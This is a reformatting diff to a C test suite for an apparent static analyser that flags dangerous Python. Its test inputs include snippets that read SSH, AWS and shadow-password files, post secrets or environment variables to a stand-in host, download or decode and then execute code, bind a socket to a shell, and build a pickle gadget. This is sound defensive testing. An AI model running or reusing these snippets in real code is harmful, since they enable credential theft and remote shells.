@@ -6,7 +6,8 @@
 
 /* ---- helpers ---- */
 
-/* All facts of a program, one a line: «call os.system(id)», a * behind a name that was computed, ? for what is not known. */
+/* All facts of a program, one a line: «call os.system(id)», a * behind a name that was computed, ? for what is not
+ * known. */
 static struct buf facts;
 static const char *const kinds[FACT_KINDS] = { "import", "call", "name", "string", "redirect", "pipe", "flow" };
 
@@ -49,10 +50,10 @@ static bool has(const char *fact)
 
 /* The program has that fact: its line begins so. */
 #define GIVES(code, fact) CHECK(resolve_bytes(code, strlen(code)) && has(fact))
-#define GIVES_NOT(code, fact)                                                                      \
-    do {                                                                                           \
-        CHECK(resolve_bytes(code, strlen(code)));                                                  \
-        CHECK(!strstr(facts.data, "\n" fact));                                                     \
+#define GIVES_NOT(code, fact)                     \
+    do {                                          \
+        CHECK(resolve_bytes(code, strlen(code))); \
+        CHECK(!strstr(facts.data, "\n" fact));    \
     } while (0)
 
 /* ---- names ---- */
@@ -66,7 +67,8 @@ TEST(python_imports_and_their_aliases_are_followed)
     GIVES("import subprocess\nsubprocess.os.system('id')", "import os*");
     GIVES("from urllib import request as r\nr.urlopen('http://x')", "call urllib.request.urlopen(http://x)");
     GIVES("import posix\nposix.system('id')", "call os.system(id)");
-    GIVES("try:\n    import requests\nexcept ImportError:\n    requests = None\nrequests.get('x')", "call requests.get(x)");
+    GIVES("try:\n    import requests\nexcept ImportError:\n    requests = None\nrequests.get('x')",
+          "call requests.get(x)");
 }
 
 TEST(python_relative_imports_and_own_names_are_no_known_modules)
@@ -107,7 +109,9 @@ TEST(python_names_follow_assignments_containers_lambdas_and_partials)
     GIVES("import os\nrun = lambda c: os.system(c)\nrun('id')", "call os.system(id)");
     GIVES("import os, functools\nfunctools.partial(os.system, 'id')()", "call os.system(id)");
     GIVES("import os\nclass A:\n    f = os.system\nA.f('id')", "call os.system(id)");
-    GIVES("import os\nclass A:\n    def __init__(self):\n        self.f = os.system\n    def go(self):\n        self.f('id')\nA().go()", "call os.system(id)");
+    GIVES("import os\nclass A:\n    def __init__(self):\n        self.f = os.system\n    def go(self):\n        "
+          "self.f('id')\nA().go()",
+          "call os.system(id)");
     GIVES("import os\nlist(map(os.system, ['id', 'ls']))", "call os.system(ls)");
     GIVES("import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()", "call os.system(id)");
 }
@@ -151,7 +155,8 @@ TEST(python_paths_are_folded)
 {
     GIVES("import os\nopen(os.path.expanduser('~/.ssh/id_rsa'))", "flow file-read(~/.ssh/id_rsa)");
     GIVES("import os\nopen(os.path.join(os.environ['HOME'], '.netrc'))", "flow file-read(~/.netrc)");
-    GIVES("from pathlib import Path\n(Path.home() / '.aws' / 'credentials').read_text()", "flow file-read(~/.aws/credentials)");
+    GIVES("from pathlib import Path\n(Path.home() / '.aws' / 'credentials').read_text()",
+          "flow file-read(~/.aws/credentials)");
     GIVES("from pathlib import Path\nPath('/etc').joinpath('passwd').open('a')", "flow file-write(/etc/passwd, a)");
     GIVES("import os\nfor p in ['a', 'b']:\n    open('/etc/' + p)", "flow file-read(/etc/b)");
     GIVES("open(mode='w', file='/etc/x')", "flow file-write(/etc/x, w)");
@@ -168,15 +173,19 @@ TEST(python_files_that_the_program_made_are_its_own)
     GIVES("import os, glob\nfor f in glob.glob('*'):\n    os.remove(f)", "flow file-delete-many(*)");
     GIVES("import os, glob\nfor f in glob.glob('/srv/*.tmp'):\n    os.remove(f)", "flow file-delete-many(/srv/*.tmp)");
     GIVES("import os, glob\nfor f in glob.glob('**/*.c'):\n    os.remove(f)", "flow file-delete-many(**/*.c)");
-    GIVES("import shutil, pathlib\nfor d in pathlib.Path('.').rglob('__pycache__'):\n    shutil.rmtree(d)", "flow file-delete-kind(");
-    GIVES("import shutil, pathlib\nfor d in pathlib.Path('/').rglob('build'):\n    shutil.rmtree(d)", "flow file-delete-tree(");
+    GIVES("import shutil, pathlib\nfor d in pathlib.Path('.').rglob('__pycache__'):\n    shutil.rmtree(d)",
+          "flow file-delete-kind(");
+    GIVES("import shutil, pathlib\nfor d in pathlib.Path('/').rglob('build'):\n    shutil.rmtree(d)",
+          "flow file-delete-tree(");
 }
 
 TEST(python_readers_of_any_library_read_secrets)
 {
-    GIVES("import configparser, os\nconfigparser.ConfigParser().read(os.path.expanduser('~/.aws/credentials'))", "flow file-read(~/.aws/credentials)");
+    GIVES("import configparser, os\nconfigparser.ConfigParser().read(os.path.expanduser('~/.aws/credentials'))",
+          "flow file-read(~/.aws/credentials)");
     GIVES("image.load('/etc/shadow')", "flow file-read(/etc/shadow)");
-    GIVES_NOT("blocked.append('/etc/shadow')\nread('the file /etc/shadow;')\nlog.info('~/.aws/credentials')", "flow file-read");
+    GIVES_NOT("blocked.append('/etc/shadow')\nread('the file /etc/shadow;')\nlog.info('~/.aws/credentials')",
+              "flow file-read");
 }
 
 /* ---- flows ---- */
@@ -187,27 +196,32 @@ TEST(python_code_that_is_decoded_fetched_or_typed_in_and_then_run)
     GIVES("import zlib\nc = compile(zlib.decompress(b'x'), 'a', 'exec')\nexec(c)", "flow decode-then-exec");
     GIVES("import marshal\nexec(marshal.loads(b'x'))", "flow decode-then-exec");
     GIVES("import requests\nr = requests.get('http://x')\nexec(r.text)", "flow download-then-exec");
-    GIVES("import urllib.request, os\nurllib.request.urlretrieve('http://x', '/tmp/p')\nos.system('sh /tmp/p')", "flow download-then-exec");
+    GIVES("import urllib.request, os\nurllib.request.urlretrieve('http://x', '/tmp/p')\nos.system('sh /tmp/p')",
+          "flow download-then-exec");
     GIVES("eval(input())", "call eval");
     GIVES_NOT("import base64\nprint(base64.b64decode('aGk='))", "flow");
     GIVES("import pickle, socket\npickle.loads(socket.socket().recv(9))", "flow unsafe-unpickle(pickle.loads)");
     GIVES_NOT("import pickle\npickle.load(open('m.pkl', 'rb'))", "flow unsafe-unpickle");
-    GIVES("import os\nclass E:\n    def __reduce__(self):\n        return os.system, ('id',)", "flow pickle-gadget(os.system)");
+    GIVES("import os\nclass E:\n    def __reduce__(self):\n        return os.system, ('id',)",
+          "flow pickle-gadget(os.system)");
 }
 
 TEST(python_sockets_that_become_a_shells_input_are_seen)
 {
     GIVES("import os, socket\ns = socket.socket()\n[os.dup2(s.fileno(), n) for n in (0, 1)]", "flow socket-dup2");
-    GIVES("import subprocess, socket\ns = socket.create_connection(('h', 1))\nsubprocess.Popen(['sh'], stdin=s)", "flow socket-dup2(sh)");
+    GIVES("import subprocess, socket\ns = socket.create_connection(('h', 1))\nsubprocess.Popen(['sh'], stdin=s)",
+          "flow socket-dup2(sh)");
     GIVES_NOT("import os\nos.dup2(3, 1)", "flow socket-dup2");
 }
 
 TEST(python_secrets_that_leave_are_seen)
 {
     GIVES("import requests\nrequests.post('http://x', data=open('/etc/shadow').read())", "flow secret-then-send");
-    GIVES("import os, requests, json\nrequests.post('http://x', data=json.dumps(dict(os.environ)))", "flow secret-then-send");
+    GIVES("import os, requests, json\nrequests.post('http://x', data=json.dumps(dict(os.environ)))",
+          "flow secret-then-send");
     GIVES("import requests\na = open('/etc/shadow').read()\nrequests.post('http://x', data=b)", "flow secret-and-send");
-    GIVES_NOT("import os, requests\nrequests.get('http://x', headers={'A': os.environ['API_KEY']})", "flow secret-then-send");
+    GIVES_NOT("import os, requests\nrequests.get('http://x', headers={'A': os.environ['API_KEY']})",
+              "flow secret-then-send");
     GIVES("import os\nprint(os.environ['MY_' + 'TOKEN'])", "flow environ-secret(MY_TOKEN)");
     GIVES_NOT("import os\nprint(os.environ['PATH'], os.getenv('HOME'))", "flow");
 }
@@ -284,14 +298,16 @@ TEST(python_programs_that_would_run_for_ever_are_read_in_bounded_time)
     GIVES("s = 'a'\nfor i in range(30):\n    s += s + s\nimport os\nos.system('id')", "call os.system(id)");
     GIVES("def f(n):\n    f(n + 'a')\n    f(n + 'b')\nf('x')\nimport os\nos.system('id')", "call os.system(id)");
     GIVES("l = []\nl.append(l)\nl.extend(l)\nprint(l)\nimport os\nos.system(l)", "call os.system(");
-    char *loops = repeated("for x in [1, 2, 3, 4, 5, 6, 7, 8]: ", 1, "chr(x)\n", "for y in range(30):\n for z in range(30):\n  chr(z)\n", "import os\nos.system('id')\n");
+    char *loops = repeated("for x in [1, 2, 3, 4, 5, 6, 7, 8]: ", 1, "chr(x)\n",
+                           "for y in range(30):\n for z in range(30):\n  chr(z)\n", "import os\nos.system('id')\n");
     CHECK(resolve_bytes(loops, strlen(loops)) && has("call os.system(id)"));
     free(loops);
 }
 
 TEST(python_text_of_any_bytes_is_survived)
 {
-    static const char source[] = "import os\nfor p in ['a', 'b']:\n    with open(f'{p}' + \"x\") as f: getattr(os, 'sys' 'tem')(f.read())\n";
+    static const char source[] =
+        "import os\nfor p in ['a', 'b']:\n    with open(f'{p}' + \"x\") as f: getattr(os, 'sys' 'tem')(f.read())\n";
     char text[sizeof source];
     uint32_t state = 7;
     for (unsigned round = 0; round < 400; round++) {
@@ -337,17 +353,17 @@ TEST(fold_slices_as_python_does)
         int64_t start, stop, step;
         bool has_start, has_stop;
         const char *expected;
-    } cases[] = {
-        { 1, 4, 1, true, true, "bcd" }, { 0, -1, 1, true, true, "abcde" }, { 0, 0, -1, false, false, "fedcba" },
-        { -2, 0, 1, true, false, "ef" }, { 0, 0, 2, false, false, "ace" },  { 4, 1, -1, true, true, "edc" },
-        { 99, 0, -2, true, false, "fdb" }, { -99, 99, 1, true, true, "abcdef" }, { 3, 1, 1, true, true, "" },
-    };
+    } cases[] = { { 1, 4, 1, true, true, "bcd" },       { 0, -1, 1, true, true, "abcde" },
+                  { 0, 0, -1, false, false, "fedcba" }, { -2, 0, 1, true, false, "ef" },
+                  { 0, 0, 2, false, false, "ace" },     { 4, 1, -1, true, true, "edc" },
+                  { 99, 0, -2, true, false, "fdb" },    { -99, 99, 1, true, true, "abcdef" },
+                  { 3, 1, 1, true, true, "" } };
     struct fold_mem m;
     struct fold_text t;
     fold_init(&m, 1u << 20);
     for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
-        CHECK(fold_slice(&m, fold_of("abcdef"), cases[i].has_start ? &cases[i].start : NULL, cases[i].has_stop ? &cases[i].stop : NULL,
-                         cases[i].step, &t));
+        CHECK(fold_slice(&m, fold_of("abcdef"), cases[i].has_start ? &cases[i].start : NULL,
+                         cases[i].has_stop ? &cases[i].stop : NULL, cases[i].step, &t));
         CHECK_STR(t.data, cases[i].expected);
     }
     CHECK(!fold_slice(&m, fold_of("abc"), NULL, NULL, 0, &t));
